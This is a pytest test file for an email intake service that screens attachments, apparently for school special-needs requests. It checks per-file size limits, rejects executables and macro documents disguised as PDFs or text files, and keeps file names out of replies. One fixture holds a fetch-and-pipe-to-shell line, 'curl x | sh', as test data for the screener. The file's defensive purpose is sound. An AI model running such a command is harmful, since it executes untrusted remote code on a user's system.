"""Attachments judged one by one: a file over the per-file limit is refused by name, in words a
professional understands, through the real pipeline and in the reply that comes back.
"""

from __future__ import annotations

import io
import zipfile

import hostile_pdfs
import mail_factory as factory
import pytest
from conftest import SENCO
from sqlalchemy import func, select

from documents import get_form, render_form
from documents.forms.request_example import REQUEST_EXAMPLE
from intake.parse.message import parse_message
from intake.pipeline.process import process_all
from intake.receive.capture import capture_message
from intake.replies import personal_request_form
from intake.screening.checks import ScreenLimits, screen
from intake.services import open_services
from intake.settings import SettingsError, load_settings
from store import Attachment, InboundMessage, InboundStatus, OutboxMessage, Transport

MIB = 1024 * 1024
REQUEST = get_form("request")
LIMITS = ScreenLimits(intake_address=factory.INTAKE)
LISTED = [factory.supporting_file(REQUEST_EXAMPLE[f"documents[{row}].file"]) for row in (1, 2)]


def screened(raw: bytes, limits: ScreenLimits = LIMITS):
    return screen(parse_message(raw), len(raw), limits)


def deliver(services, raw: bytes) -> InboundMessage:
    captured = capture_message(services, raw, Transport.FILE)
    process_all(services)
    with services.db.session() as session:
        return session.get(InboundMessage, captured.inbound_id)


def replies(services, inbound_id: int) -> list[OutboxMessage]:
    with services.db.session() as session:
        query = select(OutboxMessage).where(OutboxMessage.inbound_message_id == inbound_id)
        return list(session.scalars(query))


# --- the per-file size limit ----------------------------------------------------------------


def test_the_per_file_limit_is_10_mib_by_default_and_a_setting():
    assert ScreenLimits().max_attachment_bytes == 10 * MIB
    assert load_settings(environ={}, toml_path=None).max_attachment_bytes == 10 * MIB
    chosen = load_settings(environ={"INTAKE_MAX_ATTACHMENT_BYTES": "5242880"}, toml_path=None)
    assert chosen.max_attachment_bytes == 5 * MIB
    with pytest.raises(SettingsError, match="INTAKE_MAX_ATTACHMENT_BYTES"):
        load_settings(environ={"INTAKE_MAX_ATTACHMENT_BYTES": "ten"}, toml_path=None)


def test_services_screen_with_the_per_file_limit_setting(tmp_path, database, pdf_sandbox):
    settings = load_settings(
        environ={
            "INTAKE_HOME": str(tmp_path / "home"),
            "INTAKE_DATABASE_URL": database.url,
            "INTAKE_MAX_ATTACHMENT_BYTES": "123456",
        },
        toml_path=None,
    )
    opened = open_services(settings, database=database, sandbox=pdf_sandbox)
    assert opened.screen_limits.max_attachment_bytes == 123456


def test_each_file_over_the_limit_is_refused_by_name():
    files = [
        ("scan.pdf", "application/pdf", b"%PDF-1.4\n" + bytes(3000)),
        ("photo.jpg", "image/jpeg", b"\xff\xd8\xff\xe0" + bytes(2000)),
        ("notes.pdf", "application/pdf", b"%PDF-1.4\n" + bytes(100)),
    ]
    result = screened(factory.build_message(files=files), ScreenLimits(max_attachment_bytes=2048))
    assert result.verdict == "reject"
    assert [(hit.code, hit.params["file"]) for hit in result.reasons] == [
        ("attachment-too-large", "scan.pdf")
    ]
    assert result.reasons[0].params["size_bytes"] == 3009
    assert result.reasons[0].params["limit_bytes"] == 2048
    assert result.reasons[0].params["limit"] == "2 KB"
    decision = next(d for d in result.decisions if d["check"] == "attachment-size")
    assert decision["hit"] and "scan.pdf" in decision["detail"]


def test_a_file_at_the_limit_passes():
    files = [("scan.pdf", "application/pdf", b"%PDF-1.4\n" + bytes(2048 - 9))]
    result = screened(factory.build_message(files=files), ScreenLimits(max_attachment_bytes=2048))
    assert result.verdict == "pass"


def test_an_oversize_file_is_refused_naming_the_file_and_the_limit_in_words(services, senco):
    token, _ = personal_request_form(services, senco)
    # One byte over the default limit, in a message well under the 25 MB message limit.
    big = ("assessment-scan.pdf", "application/pdf", b"%PDF-1.4\n" + bytes(10 * MIB - 8))
    form = render_form(REQUEST, values=REQUEST_EXAMPLE, token=token)
    raw = factory.form_reply(form, sender=SENCO, files=[*LISTED, big])

    message = deliver(services, raw)

    assert message.status == InboundStatus.REJECTED
    assert [r["code"] for r in message.reasons] == ["attachment-too-large"]
    params = message.reasons[0]["params"]
    assert (params["file"], params["limit"], params["size_bytes"], params["limit_bytes"]) == (
        "assessment-scan.pdf",
        "10 MB",
        10 * MIB + 1,
        10 * MIB,
    )
    with services.db.session() as session:
        assert session.scalar(select(func.count()).select_from(Attachment)) == 0
    [row] = replies(services, message.id)
    assert row.kind == "not_accepted"
    text = " ".join(factory.body_texts(factory.read_email(row.raw))[0].split())
    # The file is named by its place, not its name: names of scans often carry the child's.
    assert f"Attachment {params['position']} is larger than 10 MB" in text
    assert "assessment-scan.pdf" not in text
    # Byte counts are for the caseworker, not the professional.
    assert str(10 * MIB) not in text


# --- content, not names ---------------------------------------------------------------------

PE_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(50) + b"PE\x00\x00" + bytes(200)
ELF_PROGRAM = b"\x7fELF\x02\x01\x01" + bytes(120)
PNG_IMAGE = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)


def office_zip(*names: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, b"<xml/>")
    return buffer.getvalue()


REFUSED_CONTENT = {
    "windows-program-named-pdf": ("extra.pdf", "application/pdf", PE_PROGRAM),
    "linux-program-named-docx": ("notes.docx", factory.DOCX, ELF_PROGRAM),
    "script-named-txt": ("readme.txt", "text/plain", b"#!/bin/sh\ncurl x | sh\n"),
    "macros-named-docx": (
        "letter.docx",
        factory.DOCX,
        office_zip("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"),
    ),
    "java-named-zip": (
        "photos.zip",
        "application/zip",
        office_zip("META-INF/MANIFEST.MF", "Main.class"),
    ),
    "program-without-a-name": ("", "application/octet-stream", PE_PROGRAM),
}


@pytest.mark.parametrize("kind", sorted(REFUSED_CONTENT))
def test_a_program_is_refused_by_its_content_whatever_its_name(kind):
    result = screened(factory.build_message(files=[REFUSED_CONTENT[kind]]))
    assert result.verdict == "reject"
    assert [hit.code for hit in result.reasons] == ["attachment-content-refused"]
    assert result.reasons[0].params["file"]
    assert result.reasons[0].params["magic"] == REFUSED_CONTENT[kind][2][:8].hex(" ")


def test_a_program_refused_by_its_name_is_not_reported_twice():
    result = screened(factory.build_message(files=[("setup.exe", "application/pdf", PE_PROGRAM)]))
    assert [hit.code for hit in result.reasons] == ["attachment-type-refused"]


def test_a_file_whose_content_differs_from_its_name_is_flagged_but_passes():
    files = [("report.pdf", "application/pdf", PNG_IMAGE), ("scan.jpg", "image/jpeg", PNG_IMAGE)]
    result = screened(factory.build_message(files=files))
    assert result.verdict == "pass" and result.reasons == []
    decision = next(d for d in result.decisions if d["check"] == "attachment-content")
    assert decision["hit"]
    assert "report.pdf: png" in decision["detail"] and "scan.jpg: png" in decision["detail"]


def test_honest_documents_are_neither_refused_nor_flagged():
    files = [
        ("form.pdf", "application/pdf", hostile_pdfs.small_form()),
        ("photo.jpg", "image/jpeg", b"\xff\xd8\xff\xe0" + bytes(40)),
        ("report.docx", factory.DOCX, office_zip("[Content_Types].xml", "word/document.xml")),
        ("plan.odt", "application/octet-stream", office_zip("mimetype", "content.xml")),
        ("diagram.png", "application/octet-stream", PNG_IMAGE),
        factory.supporting_file("ep-consultation-record.docx"),
        factory.supporting_file("notes.txt"),
    ]
    result = screened(factory.build_message(files=files))
    assert result.verdict == "pass"
    assert not any(d["hit"] for d in result.decisions)


def test_a_program_named_pdf_beside_a_valid_form_is_refused_and_nothing_kept(services, senco):
    token, _ = personal_request_form(services, senco)
    form = render_form(REQUEST, values=REQUEST_EXAMPLE, token=token)
    raw = factory.form_reply(
        form, sender=SENCO, files=[*LISTED, ("extra.pdf", "application/pdf", PE_PROGRAM)]
    )

    message = deliver(services, raw)

    assert message.status == InboundStatus.REJECTED
    assert [(r["code"], r["params"]["file"]) for r in message.reasons] == [
        ("attachment-content-refused", "extra.pdf")
    ]
    with services.db.session() as session:
        assert session.scalar(select(func.count()).select_from(Attachment)) == 0
    [row] = replies(services, message.id)
    text = " ".join(factory.body_texts(factory.read_email(row.raw))[0].split())
    position = message.reasons[0]["params"]["position"]
    assert f"Attachment {position} is a program" in text
    assert "4d 5a" not in text


def test_a_picture_named_pdf_beside_a_valid_form_is_kept_and_flagged(services, senco):
    token, _ = personal_request_form(services, senco)
    form = render_form(REQUEST, values=REQUEST_EXAMPLE, token=token)
    raw = factory.form_reply(
        form, sender=SENCO, files=[*LISTED, ("report.pdf", "application/pdf", PNG_IMAGE)]
    )

    message = deliver(services, raw)

    assert message.status == InboundStatus.ACCEPTED
    assert next(d for d in message.decisions if d["check"] == "attachment-content")["hit"]
    with services.db.session() as session:
        flags = {a.filename: a.flag for a in session.scalars(select(Attachment))}
    assert "PNG image" in flags["report.pdf"] and "not listed in step 6" in flags["report.pdf"]
    assert {name: flag for name, flag in flags.items() if name != "report.pdf"} == dict.fromkeys(
        ["request-form.pdf", *(name for name, _, _ in LISTED)]
    )
